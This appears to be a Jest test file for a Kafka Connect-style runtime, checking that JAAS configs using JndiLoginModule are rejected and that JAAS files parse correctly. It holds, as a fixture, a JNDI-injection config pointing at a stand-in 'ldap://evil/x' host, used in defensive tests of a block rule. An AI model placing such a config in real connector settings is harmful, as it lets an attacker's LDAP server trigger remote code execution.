import { ConfigError } from '../../../src/api';
import { assertJaasConfigsAllowed, parseJaasFile } from '../../../src/runtime/jaas-login-modules';
import { parseWorkerConfig } from '../../../src/runtime/worker-config';

const JNDI = 'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil/x" group.provider.url="x";';

describe('JAAS login modules', () => {
  it('refuses JndiLoginModule in sasl.jaas.config under any prefix, naming the key and where', () => {
    for (const key of ['sasl.jaas.config', 'producer.sasl.jaas.config', 'consumer.override.sasl.jaas.config', 'listener.name.x.plain.sasl.jaas.config']) {
      expect(() => assertJaasConfigsAllowed({ [key]: JNDI }, 'conn.properties')).toThrow(ConfigError);
      expect(() => assertJaasConfigsAllowed({ [key]: JNDI }, 'conn.properties')).toThrow(new RegExp(`${key.replace(/\./g, '\\.')} in conn\\.properties: com\\.sun\\.security\\.auth\\.module\\.JndiLoginModule is not allowed`));
    }
  });

  it('accepts PlainLoginModule and ScramLoginModule', () => {
    expect(() =>
      assertJaasConfigsAllowed({ 'sasl.jaas.config': 'org.apache.kafka.common.security.plain.PlainLoginModule required username="a" password="b";' }, 'w'),
    ).not.toThrow();
  });

  it('the worker config refuses it', () => {
    expect(() => parseWorkerConfig({ 'key.converter': 'x', 'value.converter': 'y', 'offset.storage.file.filename': '/tmp/o', 'admin.sasl.jaas.config': JNDI })).toThrow(/admin\.sasl\.jaas\.config in the worker config: .*JndiLoginModule is not allowed/);
  });

  it('parses a JAAS file with comments, quoted options and several entries', () => {
    const entries = parseJaasFile(
      `// users for the REST API
      KafkaConnect {
        org.apache.kafka.connect.rest.basic.auth.extension.PropertyFileLoginModule required
        file="/etc/connect/users.properties" /* inline */ debug=true;
      };
      Other { a.B optional; };`,
      'jaas.conf',
    );
    expect(entries.get('KafkaConnect')).toEqual([
      { loginModule: 'org.apache.kafka.connect.rest.basic.auth.extension.PropertyFileLoginModule', flag: 'required', options: { file: '/etc/connect/users.properties', debug: 'true' } },
    ]);
    expect(entries.get('Other')).toEqual([{ loginModule: 'a.B', flag: 'optional', options: {} }]);
  });

  it('names the file and the fault in a broken JAAS file, and refuses JndiLoginModule there', () => {
    expect(() => parseJaasFile('KafkaConnect { a.B mandatory; };', '/x/jaas.conf')).toThrow(/Invalid JAAS file \/x\/jaas\.conf: .*control flag.*'mandatory'/);
    expect(() => parseJaasFile('KafkaConnect { a.B required file="x" ', '/x/jaas.conf')).toThrow(/\/x\/jaas\.conf: expected .* but the file ended/);
    expect(() => parseJaasFile(`KafkaConnect { ${JNDI} };`, '/x/jaas.conf')).toThrow(/JndiLoginModule is not allowed/);
  });
});
